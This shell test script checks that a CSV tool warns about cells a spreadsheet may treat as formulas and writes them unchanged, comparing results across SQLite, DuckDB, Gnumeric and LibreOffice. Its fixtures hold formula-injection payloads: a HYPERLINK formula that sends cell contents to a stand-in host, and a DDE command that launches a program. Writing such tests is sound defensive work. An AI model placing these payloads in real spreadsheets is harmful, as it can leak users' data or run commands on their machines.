#!/bin/sh
# Text that a spreadsheet may take for a formula is written as it is, and that it is there is said: no more cells than a
# spreadsheet computes, and none that one computes is left out. SQLite and DuckDB read the text that was written.
. "$(dirname "$0")/lib.sh"

cat >evil.csv <<'END_OF_TABLE'
category,value,as_of,register,source,note,area
men,-5,2007,@register,-,"=HYPERLINK(""//h/?""&A1,""x"")",=1+1
men,..,2007,-,--,-12,"-1,234.5 %"
men,-5 to 3,2007,+5,"p. 3, top",0-14,-1+cmd|' /C calc'!A0
men,about 800,2007,R,"=2*3
+4","	=1","'=1+1"
END_OF_TABLE
printf '@signed men\nmen >= -10\n' >evil.rules
exits 0 "$recount" tidy evil.csv --rules evil.rules
cp out wanted
[ "$(cat err)" = 'standard output:2: note: a spreadsheet may take "@register" and 5 more for formulas; what is written is the text as it was read' ] ||
    fail "what is said of formulas: $(cat err)"
exits 0 "$recount" tidy evil.csv --rules evil.rules --output tidy.csv
cmp -s tidy.csv wanted || fail "the table is another one as a file"
grep -q '^tidy.csv:2: note: ' err || fail "the place is not said: $(cat err)"
exits 0 "$recount" tidy tidy.csv --rules evil.rules
cmp -s out tidy.csv || fail "what is written is not what was read: $(diff out tidy.csv)"

# numbers, and signs for what is not published, are no formulas
printf 'category,value,area\nmen,-5,-\nmen,-5 to 3,-12\n' >plain.csv
exits 0 "$recount" tidy plain.csv --rules evil.rules
[ ! -s err ] || fail "said without a formula: $(cat err)"

# names of files and categories in the log of what was corrected, and in drafts
printf -- '-all,men,women\n30,100,200\n' >=slips.csv
printf '"-all" = men + women\n@fixed men, women\n' >slips.rules
exits 0 "$recount" correct =slips.csv --rules slips.rules --output corrected.csv
grep -qx '=slips.csv,2,-all,30,300,typing' out || fail "the log is $(cat out)"
grep -qx 'standard output:2: note: a spreadsheet may take "=slips.csv" and 1 more for formulas; .*' err || fail "of the log is said: $(cat err)"
echo '=1+1 is a sum, and 120 prisoners arrived in 2007: 70 men and 50 women.' >article.txt
exits 0 "$recount" draft article.txt --output article
grep -q '^article.csv:2: note: a spreadsheet may take "=1+1 is a sum.*" and 3 more for formulas' err || fail "of the draft is said: $(cat err)"

# all fields, one a line, as a reader of tables has them
fields() { python3 -c 'import csv, sys
for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8")):
    print(row)' "$1"; }
if command -v python3 >/dev/null; then
    fields tidy.csv >fields
    if command -v sqlite3 >/dev/null; then
        sqlite3 :memory: '.mode csv' '.import tidy.csv t' '.headers on' 'SELECT * FROM t' >back.csv
        fields back.csv | diff fields - >&2 || fail "SQLite reads something else"
    else
        skipped "SQLite is not installed (package sqlite3)"
    fi
    python=${RECOUNT_PYTHON:-python3}
    if "$python" -c 'import duckdb' 2>/dev/null; then
        "$python" -c "import duckdb
duckdb.sql(\"COPY (FROM read_csv('tidy.csv', all_varchar=true, header=true, delim=',', quote='\\\"', escape='\\\"')) TO 'duck.csv' (HEADER)\")"
        fields duck.csv | diff fields - >&2 || fail "DuckDB reads something else"
    else
        skipped "DuckDB is not installed (the package duckdb of PyPI for $python)"
    fi
else
    skipped "python3, which compares the tables, is not here"
fi

# what a spreadsheet computes is among what is said, and of what is not said it computes nothing
table_of() { # NAME: its cells, as notes of a tidy table
    sed 's/^/men,1,/; 1i category,value,area' "$1.cells" >"$1.csv"
    exits 0 "$recount" tidy "$1.csv" --rules evil.rules --output "$1.tidy"
}
cat >said.cells <<'END_OF_CELLS'
=1+1
=men
"=HYPERLINK(""//h"",""x"")"
@SUM(1)
-1-2x
" =1+1"
END_OF_CELLS
cat >unsaid.cells <<'END_OF_CELLS'
-12
+5
"-1,234.5 %"
-
--
=
@
'=1+1
0-14
men = women
END_OF_CELLS
table_of unsaid
[ ! -s err ] || fail "said without a formula: $(cat err)"
table_of said
grep -q 'and 5 more for formulas' err || fail "not all six are said: $(cat err)"
gnumeric() { ssconvert -T Gnumeric_XmlIO:sax:0 "$1.tidy" "$1.xml" >/dev/null 2>&1; gzip -cdf "$1.xml" | grep -o '<gnm:Cell Row="[0-9]*" Col="[0-9]*">='; }
calc() {
    cp "$1.tidy" "$1.csv"
    HOME=$work timeout 120 soffice --headless --convert-to fods --infilter=CSV:44,34,76,1 "$1.csv" >/dev/null 2>&1
    [ -s "$1.fods" ] && { grep -o 'table:formula=' "$1.fods" || true; }
}
for peer in 'ssconvert gnumeric gnumeric' 'soffice calc libreoffice-calc-nogui'; do
    # shellcheck disable=SC2086
    set -- $peer
    command -v "$1" >/dev/null || { skipped "$1 is not here (package $3), so it is not asked what it computes"; continue; }
    "$2" said >computed
    [ -s computed ] || fail "$1 computes nothing, so nothing is compared"
    "$2" unsaid >computed
    [ ! -s computed ] || fail "$1 computes what is not said: $(cat computed)"
done
finish
